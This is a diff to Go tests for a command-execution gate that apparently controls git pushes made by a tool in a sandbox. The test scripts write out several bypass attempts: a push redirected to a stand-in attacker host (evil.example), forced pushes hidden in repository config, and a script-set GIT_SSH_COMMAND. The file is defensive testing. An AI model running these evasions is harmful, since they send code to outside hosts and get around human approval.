@@ -8,6 +8,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -52,7 +53,9 @@ func TestExecGateValgrindClient(t *testing.T) {
 // the gate makes by dropping them must not take the approved request's
 // identity.
 func TestExecGateGitFormApproval(t *testing.T) {
-	ws := gitWorkspace(t, "git remote add origin git@github.com:me/proj.git")
+	// The person's own ssh command (the repository's config, read-only
+	// in the sandbox): a stand-in that logs where git would connect.
+	ws := gitWorkspace(t, "git remote add origin git@github.com:me/proj.git && git config core.sshCommand /tmp/fakessh")
 	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-push\"\ncapability = \"process.exec\"\ntarget = { command = \"git push*\" }\n")
 	tool := &Tool{}
 	tool.Start(p)
@@ -69,7 +72,6 @@ func TestExecGateGitFormApproval(t *testing.T) {
 	}
 	// A stand-in for ssh logs where git would connect.
 	script := `printf '#!/bin/sh\necho "$*" >>/tmp/ssh.log\nexit 1\n' >/tmp/fakessh; chmod +x /tmp/fakessh
-export GIT_SSH_COMMAND=/tmp/fakessh
 printf 'git push origin main\ngit -c remote.origin.pushurl=git@evil.example:x/y.git push origin main\n' >/tmp/p.sh; sh /tmp/p.sh
 cat /tmp/ssh.log`
 	out := runTool(t, tool, approvingEnv(p, approved), script)
@@ -261,6 +263,66 @@ func TestExecGateEmptyingOneAtATime(t *testing.T) {
 			}
 			if refused := len(out.RefusedPrograms) > 0; refused != tt.refused {
 				t.Errorf("refused programs %q, want some: %v", out.RefusedPrograms, tt.refused)
+			}
+		})
+	}
+}
+
+// TestExecGatePushFromOwnRepository (review rev20d): a repository the
+// command made has the command's configuration (remote.origin.push =
+// +refs/…: a forced push under plain words), so a push from it is
+// critical, killed unless approved in the call; a push from the
+// repository that was there runs, also through a .git file pointing to it.
+func TestExecGatePushFromOwnRepository(t *testing.T) {
+	commit := "git -c user.email=a@b -c user.name=a commit -q --allow-empty -m "
+	tests := []struct {
+		name, script, landed string
+		refused              bool
+	}{
+		{"own repository forcing by its config", "git init -q -b main own && cd own && " + commit + "forced && git config remote.origin.url ../origin.git && git config remote.origin.push +refs/heads/main:refs/heads/main && git push -q origin main", "", true},
+		{"clone in /tmp", "git clone -q -b main origin.git /tmp/c && cd /tmp/c && " + commit + "fromtmp && git push -q origin main", "", true},
+		{"the workspace's repository", commit + "plain && git push -q origin main", "plain", false},
+		{"through a .git file", "mkdir -p sub && printf 'gitdir: '$PWD'/.git\\n' >sub/.git && cd sub && " + commit + "linked && git push -q ../origin.git main", "linked", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main")
+			p := policyFor(t, ws, `profile = "interactive-dev"`)
+			out := runTool(t, &Tool{}, (&gateCall{}).env(p), tt.script+"; git -C "+ws+"/origin.git log --format=%s main")
+			for _, forced := range []string{"forced", "fromtmp"} {
+				if strings.Contains(out.Stdout, forced) {
+					t.Errorf("a push from a repository the command made landed: %+v", out)
+				}
+			}
+			if tt.landed != "" && !strings.Contains(out.Stdout, tt.landed) {
+				t.Errorf("the push did not land (%q missing): %+v", tt.landed, out)
+			}
+			if refused := slices.ContainsFunc(out.RefusedPrograms, func(s string) bool { return strings.Contains(s, optionOwnRepo) }); refused != tt.refused {
+				t.Errorf("refused %q, want refused by the repository: %v", out.RefusedPrograms, tt.refused)
+			}
+		})
+	}
+}
+
+// TestExecGatePushThroughCommandsSSH: a push through an ssh command the
+// command set (GIT_SSH_COMMAND in a script) is critical: where it lands is
+// that program's choice; the one the host passes ([sandbox] env) is the
+// person's and changes nothing.
+func TestExecGatePushThroughCommandsSSH(t *testing.T) {
+	t.Setenv("GIT_SSH_COMMAND", "ssh -o BatchMode=yes")
+	for _, tt := range []struct {
+		name, script string
+		landed       bool
+	}{
+		{"set by a script", `printf 'GIT_SSH_COMMAND=/bin/true git push -q origin main\n' >/tmp/p.sh; sh /tmp/p.sh`, false},
+		{"passed by the host", `sh -c 'git push -q origin main'`, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second")
+			p := policyFor(t, ws, "profile = \"interactive-dev\"\n[sandbox]\nenv = [\"PATH\", \"GIT_SSH_COMMAND\"]\n")
+			out := runTool(t, &Tool{}, (&gateCall{}).env(p), tt.script+"; git -C origin.git log --format=%s main")
+			if landed := strings.Contains(out.Stdout, "second"); landed != tt.landed {
+				t.Errorf("landed %v, want %v: %+v", landed, tt.landed, out)
 			}
 		})
 	}
